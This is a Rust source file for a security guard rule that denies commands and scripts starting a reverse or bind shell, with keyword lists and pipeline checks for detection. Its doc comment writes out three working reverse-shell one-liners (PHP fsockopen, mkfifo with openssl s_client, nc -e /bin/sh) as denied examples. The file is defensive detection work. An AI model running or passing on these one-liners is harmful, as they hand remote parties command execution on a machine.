//! `shell-on-connection`: a shell or interpreter that gets its commands from a network connection (a reverse or bind
//! shell), in any language.
//!
//! ## Why
//! Another person could run commands on this machine. Honest calls don't look like this. ATT&CK T1059, T1095, T1571.
//!
//! ## Examples
//! - denied: `php -r '$s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`
//! - denied: `mkfifo p; sh -i < p 2>&1 | openssl s_client -quiet -connect 203.0.113.9:4444 > p`
//! - denied: `nc -e /bin/sh 203.0.113.9 4444`
//! - passes: `nc -zv localhost 5432`
//! - passes: `openssl s_client -connect example.org:443 < /dev/null`
//! - passes: `python3 -c "import socket; print(socket.gethostname())"`
//!
//! ## Instead
//! Ask the user to open a session, for example with `ssh`.

use guard_sdk::syntax::Command;
use guard_sdk::{Outcome, Rule};

use super::{Hit, code};
use crate::kinds::{CONNECTORS, SHELLS, has_any, is_any};
use crate::view::{View, name, texts};

pub(crate) const RULE: Rule = Rule {
    id: "shell-on-connection",
    summary: "starts a shell that takes commands from the network",
    default: Outcome::Deny,
    ceiling: Outcome::Deny,
};

/// Calls that start a shell or run a text.
const STARTS: &[&str] = &[
    "exec",
    "system",
    "popen",
    "proc_open",
    "passthru",
    "shell_exec",
    "spawn",
    "subprocess",
    "os.execute",
    "io.popen",
    "IO.popen",
    "ProcessBuilder",
    "Runtime.getRuntime",
    "iex",
    "Invoke-Expression",
    "[scriptblock]::Create",
    "Command(",
    "`",
    "getline",
];

/// Calls that connect a socket to a started program.
const TIES: &[&str] = &[
    "dup2",
    "fileno",
    "<&",
    ">&",
    "|&",
    "fdopen",
    "open(STDIN",
    "open STDIN",
    "pty.spawn",
    ".pipe(",
    "stdin=s",
    "stdin: s",
    "Stdin=c",
    "Stdin = c",
    "0=>$s",
    "0 => $s",
    "c.print",
    "c.puts",
    "GetStream",
    "getInputStream",
    "$s.Write",
    "while<>",
    "while <",
    "STDIN->",
    ".gets",
    "print S",
    "ProcessBuilder(",
];

/// Names of shells in code.
const NAMED: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "/bin/zsh",
    "bash -i",
    "sh -i",
    "'sh'",
    "\"sh\"",
    "'bash'",
    "\"bash\"",
    "cmd.exe",
    "powershell",
    "cmd\"",
    "\"sh -",
];

pub(crate) fn check(view: &View<'_>) -> Option<Hit> {
    let served = view
        .analysis
        .effects
        .iter()
        .any(|effect| effect.operation == "execute.served" && serves_a_shell(&effect.target));
    let found = served
        || view.code().any(is_shell_on_connection)
        || view.commands().any(|command| connects_shell(command, view));
    found.then(|| {
        Hit::new(
            "Opens a shell on this machine to the other end of a connection",
            "ask the user to open a session, as with `ssh`",
        )
    })
}

/// Returns whether the served program is a shell or an interpreter, not the user's own.
fn serves_a_shell(target: &str) -> bool {
    let program = target.split([' ', ',']).next().unwrap_or_default().trim_matches(['\'', '"']);
    let program = program.rsplit('/').next().unwrap_or_default();
    target.starts_with("/dev/") || is_any(program, SHELLS) || has_any(program, &["python", "perl", "ruby"])
}

/// Returns whether the code connects a shell to a connection.
fn is_shell_on_connection(text: &str) -> bool {
    if !code::connects(text) {
        return false;
    }
    let starts = has_any(text, STARTS);
    let tied = has_any(text, TIES)
        && (has_any(text, NAMED)
            || has_any(
                text,
                &[
                    "system$_",
                    "system($_",
                    "IO.popen(",
                    "|& getline",
                    "iex",
                    "Invoke-Expression",
                    "[scriptblock]::Create",
                    "exec [gets",
                ],
            ));
    // Received data is run: the result of one call is the text of another.
    let receives =
        has_any(text, &["recv(", ".receive(", "readline()", "c.gets", ".Read(", ".ReadLine(", ".Receive(", "gets $"]);
    let runs = has_any(
        text,
        &[
            "shell=True",
            "os.popen(",
            "os.system(",
            "getoutput(",
            "IO.popen(",
            "iex ",
            "Invoke-Expression",
            "[scriptblock]::Create",
            "child_process",
            "exec(",
            "eval ",
        ],
    );
    starts
        && (tied
            || receives
                && runs
                && has_any(
                    text,
                    &[
                        "connect(",
                        "TCPSocket",
                        "TCPClient",
                        "TcpClient",
                        "UdpClient",
                        "TcpListener",
                        "bind(",
                        "accept(",
                        "[socket ",
                    ],
                ))
}

fn connects_shell(command: &Command, view: &View<'_>) -> bool {
    let program = name(command);
    // A shell and a connection in one pipeline, each feeding the other.
    let connects = is_any(&program, CONNECTORS)
        || program == "openssl" && texts(command).any(|text| matches!(text, "s_client" | "s_server"));
    if connects && !texts(command).any(|text| text == "-z") {
        let stages = view.index().pipeline(command);
        let is_reader = |other: &&&Command| {
            let words = || texts(other).filter(|text| !text.starts_with('-'));
            let interactive = texts(other).any(|text| text == "-i") || words().next().is_none();
            is_any(&name(other), SHELLS) && interactive && !texts(other).any(|text| text.starts_with("-c"))
        };
        if stages.iter().take(64).any(|other| other.id != command.id && is_reader(&other)) {
            return true;
        }
    }
    // A WebSocket whose other end is a program: `sh-c:bash`.
    let is_shell = |text: &str| {
        let rest = ["exec:", "sh-c:", "cmd:"].iter().find_map(|start| text.strip_prefix(start));
        rest.is_some_and(|rest| {
            is_any(rest.split(' ').next().unwrap_or_default().rsplit('/').next().unwrap_or_default(), SHELLS)
        })
    };
    if program == "websocat" && texts(command).any(is_shell) {
        return true;
    }
    // Languages whose scripts the analysis doesn't list.
    const INTERPRETERS: &[&str] = &[
        "go",
        "java",
        "jshell",
        "jrunscript",
        "tclsh",
        "wish",
        "expect",
        "erl",
        "elixir",
        "julia",
        "swift",
        "scala",
        "groovy",
        "kotlin",
        "rscript",
        "r",
        "nodejs",
        "deno",
        "bun",
        "gawk",
        "awk",
        "zsh",
        "pwsh",
        "powershell",
        "v",
        "crystal",
        "nim",
        "dart",
        "lua",
        "luajit",
    ];
    let fed = || command.redirections.iter().flat_map(|one| [one.body.as_str(), one.target.text.as_str()]);
    if is_any(&program, INTERPRETERS) && texts(command).chain(fed()).any(is_shell_on_connection) {
        return true;
    }
    program == "ztcp"
        && view.commands().any(|other| {
            is_any(&name(other), SHELLS) && other.redirections.iter().any(|one| one.target.text.contains("REPLY"))
        })
}
